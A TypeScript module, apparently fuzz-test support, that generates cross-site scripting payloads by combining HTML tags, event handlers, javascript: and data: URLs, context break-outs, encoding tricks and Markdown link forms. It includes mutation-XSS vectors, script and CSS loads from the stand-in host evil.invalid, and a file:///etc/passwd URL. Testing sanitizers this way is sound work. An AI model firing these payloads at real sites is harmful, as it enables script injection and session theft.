/**
 * Script-like texts, combined from the usual parts (tags, handlers, URLs, ways to break out, ways to avoid filters), so that
 * every part is tried in every place.
 */
const HARM = 'window.__harmed=1'

const HANDLERS = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'onanimationstart',
  'onpageshow',
]
const TAGS = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['video', 'src=x autoplay'],
  ['audio', 'src=x autoplay'],
  ['iframe', 'src=/'],
  ['input', 'autofocus'],
  ['select', 'autofocus'],
  ['textarea', 'autofocus'],
  ['details', 'open'],
  ['marquee', ''],
  ['object', 'data=x'],
  ['a', 'href=# autofocus'],
  ['style', ''],
  ['link', 'rel=stylesheet href=/x.css'],
  ['math', ''],
  ['template', ''],
  ['x-y', 'tabindex=0 autofocus'],
] as const
const ADDRESSES = [
  `javascript:${HARM}`,
  `JaVaScRiPt:${HARM}`,
  ` javascript:${HARM}`,
  `java\tscript:${HARM}`,
  `java\nscript:${HARM}`,
  `\u0001javascript:${HARM}`,
  `&#106;avascript:${HARM}`,
  `&#x6A&#x61vascript:${HARM}`,
  `javascript&colon;${HARM}`,
  `javascript://example.org/%0a${HARM}`,
  `vbscript:${HARM}`,
  `data:text/html,<script>${HARM}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oYXJtZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${HARM}>`,
  `blob:${HARM}`,
  `file:///etc/passwd`,
  `//evil.invalid/x`,
  `https://evil.invalid/x.js`,
  `http://user:pass@evil.invalid/`,
]
/** ways out of the surrounding context: an element, an attribute, a script, a comment, a style, a title, CDATA */
const BREAKS = [
  '',
  '">',
  "'>",
  '</script>',
  '--><!--',
  '</title>',
  '</style>',
  '</textarea>',
  ']]>',
  '</p>',
  '\u2028',
  '${',
  '{{',
]
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(HARM.toUpperCase(), HARM),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll('=', '&#61;'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('on', 'on\u0000').replaceAll('\u0000', '\u000b'),
]
const MARKDOWN = [
  (address: string) => `[a](${address})`,
  (address: string) => `[a](<${address}>)`,
  (address: string) => `![a](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[a][b]\n\n[b]: ${address}`,
  () => `[a](x "" onmouseover=${HARM} "")`,
  (address: string) => `[![a](${address})](${address})`,
  (address: string) => `\`\`\`<script>${HARM}</script>\n${address}\n\`\`\``,
  (address: string) => `<a href="${address}">a</a>`,
  (address: string) => `**[a](${address})**`,
]

/** `count` of them, spread over all combinations; each is shorter than the maximum title. */
export function payloads(count: number): string[] {
  const all = [...new Set([...markup(), ...scripts(), ...links()])].filter((text) => [...text].length <= 200)
  const step = Math.max(1, all.length / count)
  return Array.from({ length: Math.min(count, all.length) }, (_, n) => all[Math.floor(n * step)]!)
}

function* markup(): Generator<string> {
  for (const way of BREAKS)
    for (const [tag, attributes] of TAGS)
      for (const handler of HANDLERS)
        for (const disguise of DISGUISES) yield disguise(`${way}<${tag} ${attributes} ${handler}=${HARM}>`)
}

function* scripts(): Generator<string> {
  for (const way of BREAKS)
    for (const disguise of DISGUISES) {
      yield disguise(`${way}<script>${HARM}</script>`)
      yield disguise(`${way}<script src=//evil.invalid/x.js></script>`)
      yield disguise(`${way}<svg><script>${HARM}</script></svg>`)
      yield disguise(`${way}<math><mtext><style><img src=x onerror=${HARM}></style></mtext></math>`)
      yield disguise(`${way}<noscript><p title="</noscript><img src=x onerror=${HARM}>">`)
      yield disguise(`${way}<base href=//evil.invalid/>`)
      yield disguise(`${way}<meta http-equiv=refresh content=0;url=javascript:${HARM}>`)
      yield disguise(`${way}<style>@import '//evil.invalid/x.css'</style>`)
    }
}

function* links(): Generator<string> {
  for (const address of ADDRESSES)
    for (const inMarkdown of MARKDOWN) for (const way of BREAKS) yield way + inMarkdown(address)
}
